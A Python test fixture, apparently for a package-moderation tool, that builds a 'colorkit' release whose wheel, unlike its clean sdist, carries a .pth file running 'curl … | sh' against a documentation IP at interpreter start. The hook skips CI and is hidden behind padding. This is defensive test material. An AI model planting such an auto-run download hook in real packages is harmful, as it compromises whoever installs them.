"""A release of two files where only the wheel carries the payload, built inside the tests.

``colorkit`` 1.1 ships an sdist that is the same as 1.0 and a wheel that adds a ``.pth`` file
running ``curl … | sh`` at interpreter start (inert text: never installed or run; the address
is a documentation one). Moderators met exactly this: the queue said critical, the window
showed the clean sdist.
"""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

NAME = "colorkit"
MODULE = 'def paint(text):\n    """Colour text."""\n    return "\\x1b[31m" + text + "\\x1b[0m"\n'
PAYLOAD_URL = "http://203.0.113.7/stage2.sh"
PTH = (
    "import os, base64; os.system('curl -s "
    + PAYLOAD_URL
    + " | sh') if not os.environ.get('CI') else None"
    + "  # "
    + "x" * 300
    + " end-of-payload\n"
)


def _pkg_info(version: str) -> str:
    return f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {version}\nSummary: colours\n"


def make_sdist(folder: Path, version: str, top: str | None = None) -> Path:
    top = top or f"{NAME}-{version}"
    files = {
        "PKG-INFO": _pkg_info(version),
        "setup.py": f"from setuptools import setup\nsetup(name='{NAME}', version='{version}')\n",
        f"{NAME}/__init__.py": MODULE,
    }
    path = folder / f"{NAME}-{version}.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for rel, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{top}/{rel}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def make_wheel(folder: Path, version: str, payload: bool) -> Path:
    dist = f"{NAME}-{version}.dist-info"
    files = {
        f"{NAME}/__init__.py": MODULE,
        f"{dist}/METADATA": _pkg_info(version),
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    if payload:
        files[f"{NAME}_init.pth"] = PTH
    files[f"{dist}/RECORD"] = "".join(f"{p},,\n" for p in files)
    path = folder / f"{NAME}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        for rel, text in files.items():
            zf.writestr(rel, text)
    return path


def file_url(path: Path) -> str:
    """Where PyPI would serve the file (the inspector's URLs are built from this path)."""
    return f"https://files.pythonhosted.org/packages/ab/cd/0123456789abcdef/{path.name}"


def queue_release(store, folder: Path, *, sdist_first: bool = True) -> int:
    """Queue colorkit 1.1 (sdist + payload wheel) with 1.0's two files as baselines, the
    files attached in the order a registry might list them, each with the URL it was
    fetched from; returns the item id."""
    import hashlib

    def sha(p: Path) -> str:
        return hashlib.sha256(p.read_bytes()).hexdigest()

    folder.mkdir(parents=True, exist_ok=True)
    new = [make_sdist(folder, "1.1"), make_wheel(folder, "1.1", payload=True)]
    old = [make_sdist(folder, "1.0"), make_wheel(folder, "1.0", payload=False)]
    if not sdist_first:
        new.reverse()
    item, _ = store.add_item("pypi", NAME, ["1.1"], baseline="1.0", report_text="odd wheel")
    for path in new:
        store.attach_artifact(
            item.id, "new", str(path), sha(path), version="1.1", url=file_url(path)
        )
    for path in old:
        store.attach_artifact(item.id, "baseline", str(path), sha(path), version="1.0")
    return item.id
